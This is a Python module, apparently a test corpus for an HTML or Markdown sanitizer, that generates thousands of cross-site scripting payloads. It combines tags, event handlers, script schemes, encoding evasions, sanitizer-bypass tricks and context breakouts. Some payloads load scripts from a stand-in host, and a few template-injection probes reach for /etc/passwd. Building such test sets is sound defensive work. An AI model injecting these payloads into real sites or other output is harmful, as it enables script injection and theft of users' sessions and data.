"""Markup that would run in a browser: built from tags, events, encodings, positions and ways to break out (P3, O5, O6).

Each payload runs `alert(1)` or loads something from CANARY; none needs a click, but for those in an address.
"""

from __future__ import annotations

import base64
import itertools
from collections.abc import Callable, Iterator

CANARY = "canary.example"
CODE = "alert(1)"

TAGS = (
    *("img", "svg", "body", "video", "audio", "iframe", "input", "details", "marquee", "object", "embed", "style"),
    *("script", "link", "table", "select", "textarea", "keygen", "math", "frameset", "button", "form", "a", "p", "div"),
    *("isindex", "bgsound", "applet", "image", "source", "track", "x", "xss-custom", "b", "blockquote", "h1", "td"),
)
EVENTS = (
    *("onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "onbegin", "onend", "onrepeat", "ontoggle"),
    *("onstart", "onfinish", "onbounce", "onanimationstart", "onanimationend", "ontransitionend", "onpointerenter"),
    *("onpageshow", "onhashchange", "onscroll", "onwheel", "oncopy", "onpaste", "ondrag", "oncanplay", "onplay"),
    *("ontimeupdate", "onkeydown", "onsubmit", "oninput", "oninvalid", "onresize", "onunload", "onbeforeunload"),
    *(
        "onauxclick",
        "oncuechange",
        "ondurationchange",
        "onloadstart",
        "onratechange",
        "onreadystatechange",
        "onmessage",
    ),
    *("onsearch", "onselect", "onstorage", "onfocusin", "onformdata", "onwebkitanimationstart", "onbeforetoggle"),
)
FORMS: tuple[Callable[[str, str], str], ...] = (
    lambda tag, event: f"<{tag} src=x {event}={CODE}>",
    lambda tag, event: f'<{tag} src="x" {event}="{CODE}" autofocus open tabindex=1>x</{tag}>',
    lambda tag, event: f"<{tag}/src='x'/{event}='{CODE}'/>",
    lambda tag, event: f"<{tag.upper()} SRC=x {event.title()}={CODE}//",
    lambda tag, event: f"<{tag}\n{event}\n=\n{CODE}\nsrc=x>",
    lambda tag, event: f"<{tag}\x0c{event}=`{CODE}`>",
    lambda tag, event: f"<{tag} {event}=&#97;lert(1) src>",
    lambda tag, event: f"<{tag} a='>' {event}={CODE}>",
    lambda tag, event: f'<{tag} """><{tag} {event}={CODE}>">',
    lambda tag, event: f"<<{tag} \x00{event}={CODE}>>",
)
SCHEMES = ("javascript", "vbscript", "data", "livescript", "mocha", "view-source", "blob", "filesystem", "jar")
SPELLINGS: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.upper(),
    lambda text: "".join(one.upper() if at % 2 else one for at, one in enumerate(text)),
    lambda text: "".join(f"&#{ord(one)};" for one in text),
    lambda text: "".join(f"&#x{ord(one):x};" for one in text),
    lambda text: "".join(f"&#{ord(one):07d}" for one in text),
    lambda text: f"{text[:3]}\t{text[3:]}",
    lambda text: f"{text[:3]}\n{text[3:]}",
    lambda text: f"{text[:3]}&#10;{text[3:]}",
    lambda text: f"{text[:3]}&Tab;{text[3:]}",
    lambda text: f"{text[:3]}&NewLine;{text[3:]}",
    lambda text: f"\x01{text}",
    lambda text: f" &#14; {text}",
    lambda text: f"{text[:4]}\x00{text[4:]}",
    lambda text: f"\u200b{text}",
    lambda text: f"{text[:-1]}&colon;",
)
PLACES = (
    *('<a href="{0}">x</a>', "<a href='{0}'>x</a>", "<a href={0}>x</a>", '<img src="{0}">', '<iframe src="{0}">'),
    *('<form action="{0}"><input type=submit>', '<button formaction="{0}">x</button>', '<object data="{0}">'),
    *('<embed src="{0}">', '<base href="{0}//">', '<link rel=stylesheet href="{0}">', '<body background="{0}">'),
    *('<table background="{0}">', '<svg><a xlink:href="{0}"><text y=9>x', '<math href="{0}">x', '<video poster="{0}">'),
    *(
        '<area href="{0}">',
        '<meta http-equiv=refresh content="0;url={0}">',
        '<img srcset="{0} 1x">',
        '<q cite="{0}">x</q>',
    ),
    *(
        '<input type=image src="{0}">',
        '<frameset><frame src="{0}">',
        '<a ping="{0}" href="#">x</a>',
        '<img lowsrc="{0}">',
    ),
    *("[x]({0})", "[x](<{0}>)", "![x]({0})", "[x]: {0}\n\n[x]", "<{0}>", '![x](x "{0}")'),
)
SCRIPTS = (
    *(
        "<script>{0}</script>",
        "<script src=//{1}/x.js></script>",
        "<SCRIPT/x>{0}</SCRIPT >",
        "<script\n>{0}</script\n>",
    ),
    *(
        "<scr<script>ipt>{0}</scr</script>ipt>",
        "<script>{0}//",
        "<script>{0}</script",
        "<svg><script>{0}</script></svg>",
    ),
    *(
        "<svg><script xlink:href=//{1}/x.js /></svg>",
        "<math><script>{0}</script></math>",
        "<script><!--\n{0}\n//--></script>",
    ),
    *(
        "<script type=module>{0}</script>",
        "<script>/*<b>*/{0}</script>",
        "<%00script>{0}</script>",
        "<\x00script>{0}</script>",
    ),
    *(
        "<iframe srcdoc='<script>{0}</script>'>",
        '<iframe srcdoc="&lt;img src=x onerror={0}&gt;">',
        "<iframe src=//{1}/>",
    ),
    *(
        "<object type=text/x-scriptlet data=//{1}/>",
        "<embed code=//{1}/ allowscriptaccess=always>",
        "<template><script>{0}",
    ),
    *(
        "<style>@import '//{1}/x.css';</style>",
        "<style>*{{background:url(//{1}/x)}}</style>",
        "<link rel=stylesheet href=//{1}/>",
    ),
    *("<link rel=prefetch href=//{1}/>", "<link rel=import href=//{1}/>", "<p style='background:url(//{1}/x)'>x"),
    *(
        "<p style=width:expression({0})>x",
        '<p style="-moz-binding:url(//{1}/x#y)">x',
        "<p style='behavior:url(//{1}/)'>x",
    ),
    *("<meta http-equiv=refresh content='0;//{1}/'>", "<meta http-equiv=Set-Cookie content=a=b>", "<base href=//{1}/>"),
    *(
        "<svg/onload={0}>",
        "<svg><animate onbegin={0} attributeName=x dur=1s>",
        "<svg><set onbegin={0} attributeName=x>",
    ),
    *(
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={0} />#x'>",
        "<svg><style><img src=x onerror={0}>",
    ),
    *(
        "<svg><foreignObject><img src=x onerror={0}></svg>",
        "<svg><desc><img src=x onerror={0}></svg>",
        "<svg></p><style><a id='</style><img src=1 onerror={0}>'>",
    ),
    *(
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={0}&gt;'>",
        "<math><mi><img src=x onerror={0}>",
    ),
    *(
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror={0}>",
        "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    ),
    *(
        "<noembed><img title='</noembed><img src onerror={0}>'>",
        "<xmp><p title='</xmp><svg/onload={0}>'>",
        "<title><p title='</title><svg/onload={0}>'>",
    ),
    *(
        "<textarea><img title='</textarea><img src onerror={0}>'>",
        "<select><style></select><img src=x onerror={0}></style>",
        "<plaintext><svg onload={0}>",
    ),
    *(
        "<!--><img src=x onerror={0}>-->",
        "<!-- --!><img src=x onerror={0}> -->",
        "<!--[if gte IE 4]><script>{0}</script><![endif]-->",
        "<!-><svg onload={0}>",
    ),
    *(
        "<?xml version='1.0'?><script>{0}</script>",
        "<?xml-stylesheet href='javascript:{0}'?>",
        "<?php echo '<script>{0}</script>'?>",
        "<? foo='><script>{0}</script>'>",
    ),
    *(
        "<![CDATA[<script>{0}</script>]]>",
        "]]><script>{0}</script><![CDATA[",
        "<svg><![CDATA[><img src=x onerror={0}>]]>",
        "<!DOCTYPE x [<!ENTITY y '<script>{0}</script>'>]>&y;",
    ),
    *(
        "+ADw-script+AD4-{0}+ADw-/script+AD4-",
        "\u00bcscript\u00be{0}\u00bc/script\u00be",
        "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
        "%3Cscript%3E{0}%3C/script%3E",
    ),
    *(
        "&lt;script&gt;{0}&lt;/script&gt;",
        "&amp;lt;script&amp;gt;{0}&amp;lt;/script&amp;gt;",
        "&#60;img src=x onerror={0}&#62;",
        "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    ),
    *(
        "{{{{constructor.constructor('{0}')()}}}}",
        "{{{{ self.__init__.__globals__ }}}}",
        "{{% include '/etc/passwd' %}}",
        "${{{0}}}",
        "<%= {0} %>",
        "#{{{0}}}",
    ),
    *(
        "<details open ontoggle={0}>",
        "<video><source onerror={0}></video>",
        "<input autofocus onfocus={0}>",
        "<marquee onstart={0}>x</marquee>",
    ),
    *(
        "<img src=x:x onerror=\\u0061lert(1)>",
        "<img src='x' onerror=eval(atob('YWxlcnQoMSk='))>",
        "<img src=1 href=1 onerror='{0}'",
        "<img alt='`><img src=x onerror={0}>`'>",
    ),
    *(
        "<a href='#' onclick={0}>x</a>",
        "<a id=x tabindex=1 onfocus={0}></a>",
        "<body onload={0}>",
        "<frameset onload={0}>",
        "<dialog open onclose={0}>x</dialog>",
    ),
    *(
        "```\n</code></pre><script>{0}</script>\n```",
        "`</code><script>{0}</script>`",
        "> <script>{0}</script>",
        "- <img src=x onerror={0}>",
        "| <svg/onload={0}> |\n|---|",
    ),
    *(
        "# <script>{0}</script>",
        "**<img src=x onerror={0}>**",
        "[<img src=x onerror={0}>](x)",
        "![<img src=x onerror={0}>](x)",
        "<p><b\n\n<script>{0}</script>\n\n</b>",
    ),
)
BREAKS = (
    *("{0}", '">{0}', "'>{0}", '"/>{0}', "</p>{0}", "-->{0}", "]]>{0}", "</title>{0}", "</textarea>{0}", "</style>{0}"),
    *("</script>{0}", "</a>{0}<a>", '" x="{0}', "<b>{0}</b>", "<p>{0}", "\n\n{0}\n\n", "x{0}x", "</description>{0}"),
    *(
        "</channel></rss>{0}",
        "<svg>{0}",
        "<math>{0}",
        "<table>{0}",
        "<noscript>{0}",
        "&lt;/p&gt;{0}",
        '\\"{0}',
        "%0a{0}",
    ),
)
DATA = f"data:text/html;base64,{base64.b64encode(b'<script>alert(1)</script>').decode()}"
CODES = (
    *(CODE, "confirm`1`", "top['al'+'ert'](1)", "window.onerror=alert;throw+1", "self[`alert`](1)", "prompt(1)"),
    f"new(Image)().src='//{CANARY}/'",
)


def events() -> Iterator[str]:
    """Every tag with every event, each in one of the ways to write it."""
    for number, (tag, event) in enumerate(itertools.product(TAGS, EVENTS)):
        yield FORMS[number % len(FORMS)](tag, event)


def addresses() -> Iterator[str]:
    """Every place of an address with every scheme that runs, each in every spelling of its scheme, turn by turn."""
    for number, (place, scheme) in enumerate(itertools.product(PLACES, SCHEMES)):
        body = DATA.removeprefix("data:") if scheme == "data" else CODE
        for step in range(3):
            spelling = SPELLINGS[(number + step * 5) % len(SPELLINGS)]
            yield place.format(f"{spelling(scheme + ':')}{body}")


def scripts() -> Iterator[str]:
    """Every other construct, out of every position."""
    for number, (script, way_out) in enumerate(itertools.product(SCRIPTS, BREAKS)):
        yield way_out.format(script.format(CODES[number % len(CODES)], CANARY))


def payloads() -> list[str]:
    """All of them, each once, in a fixed order."""
    return list(dict.fromkeys(itertools.chain(scripts(), events(), addresses())))
